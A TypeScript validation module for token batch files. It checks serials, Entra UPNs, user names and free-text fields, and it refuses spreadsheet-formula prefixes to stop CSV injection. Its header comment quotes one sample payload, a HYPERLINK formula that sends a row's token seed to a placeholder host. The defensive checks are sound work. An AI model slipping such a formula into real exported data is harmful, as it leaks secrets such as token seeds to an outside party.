/**
 * Rules for the values that reach a batch file: token serials, employee UPNs, user names for other
 * identity providers, and free text such as manufacturer, model and display names.
 *
 * Each rule also keeps spreadsheet formulas out: a cell that starts with = + - @, a tab or a CR is
 * run as a formula when an admin opens a CSV in Excel (`=HYPERLINK("https://x/?"&C2)` sends the
 * row's seed away). Every entry point (import, hand-out, roster, assign) asks these functions, and
 * every CSV exporter asks `formulaProblem` once more before it writes a cell.
 */

/** Serials are opaque: trimmed, leading zeros kept, no check digit assumed. */
export function normaliseSerial(raw: string): string {
  return raw.trim();
}

export const MAX_SERIAL_LENGTH = 64;

/** The characters a spreadsheet reads as the start of a formula (OWASP "CSV injection"). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** Why a cell would start a spreadsheet formula, or null when it would not. */
export function formulaProblem(text: string): string | null {
  if (!FORMULA_START.test(text)) return null;
  const first = text[0] === '\t' ? 'a tab' : text[0] === '\r' ? 'a line break' : `"${text[0]}"`;
  return `it starts with ${first}, which a spreadsheet runs as a formula`;
}

/** Why a serial cannot be used, or null when it can. Letters, digits and inner dashes only. */
export function serialProblem(serial: string): string | null {
  if (serial.length === 0) return 'the serial is empty';
  if (serial.length > MAX_SERIAL_LENGTH) return `the serial is longer than ${MAX_SERIAL_LENGTH} characters`;
  // Every vendor label we know is letters, digits and dashes; anything else is usually a scanner
  // suffix, a paste accident, or a shifted column. Never quote the value: it may be a seed.
  if (!/^[A-Za-z0-9-]+$/.test(serial)) return 'the serial has characters other than letters, digits and "-"';
  if (serial.startsWith('-')) return 'the serial starts with "-", which a spreadsheet runs as a formula';
  return null;
}

/** UPNs compare case-insensitively in Entra; we store them lower case. */
export function normaliseUpn(raw: string): string {
  return raw.trim().toLowerCase();
}

/** Entra's limit of OATH hardware tokens per user. */
export const MAX_TOKENS_PER_USER = 5;

/**
 * Why a UPN is not one Entra accepts, or null when it is. Entra's username policy: before the @
 * A-Z a-z 0-9 and ' . - _ ! # ^ ~, no "." right before the @, at most 64 characters before and 48
 * after, 113 in all (learn.microsoft.com, "Password policies and account restrictions in Microsoft
 * Entra ID", Username policies). A leading "-" is refused as well: it is a formula in a CSV cell.
 */
export function upnProblem(upn: string): string | null {
  if (upn.length === 0) return 'the UPN is empty';
  if (upn.length > 113) return 'the UPN is longer than 113 characters';
  const at = upn.lastIndexOf('@');
  if (at <= 0 || upn.indexOf('@') !== at) return 'a UPN looks like name@example.com';
  const local = upn.slice(0, at);
  const domain = upn.slice(at + 1);
  if (local.length > 64) return 'the part before @ is longer than 64 characters';
  if (domain.length > 48) return 'the part after @ is longer than 48 characters';
  if (!/^[A-Za-z0-9'._!#^~-]+$/.test(local)) return "the part before @ has characters Entra does not allow (it allows letters, digits and ' . - _ ! # ^ ~)";
  if (local.startsWith('.') || local.endsWith('.') || local.includes('..')) return 'the part before @ starts or ends with a dot, or has two dots in a row';
  if (local.startsWith('-')) return 'the UPN starts with "-", which a spreadsheet runs as a formula';
  if (!/^(?:[A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?\.)+[A-Za-z]{2,}$/.test(domain)) {
    return 'the part after @ is not a domain such as example.com';
  }
  return null;
}

export const MAX_NAME_LENGTH = 256;

/**
 * Why free text (manufacturer, model, display name) cannot go into a batch, or null when it can.
 * Empty is allowed here; the exporters whose target needs a value say so themselves.
 */
export function nameProblem(text: string): string | null {
  if (text.length > MAX_NAME_LENGTH) return `it is longer than ${MAX_NAME_LENGTH} characters`;
  if (/[\u0000-\u001f\u007f]/.test(text)) return 'it has control characters (a tab, a line break...)';
  return formulaProblem(text);
}

/**
 * Why a user name for an identity provider other than Entra (privacyIDEA's resolver login,
 * LinOTP's, multiOTP's account name: often the sAMAccountName) cannot be used, or null.
 * These targets split their files on commas, semicolons and tabs without quoting.
 */
export function userNameProblem(name: string): string | null {
  if (name.trim() === '') return 'the user name is empty';
  if (name !== name.trim()) return 'the user name starts or ends with a space';
  if (name.length > MAX_NAME_LENGTH) return `the user name is longer than ${MAX_NAME_LENGTH} characters`;
  if (/[\u0000-\u001f\u007f,;"]/.test(name)) return 'the user name has a comma, a semicolon, a quote or a control character';
  if (name.startsWith('#')) return 'the user name starts with "#", which makes the line a comment';
  return formulaProblem(name);
}

/** j.doe@example.com -> j***@example.com, for screens an employee sees without staff. */
export function maskUpn(upn: string): string {
  const at = upn.indexOf('@');
  if (at <= 0) return '***';
  return `${upn[0]}***${upn.slice(at)}`;
}
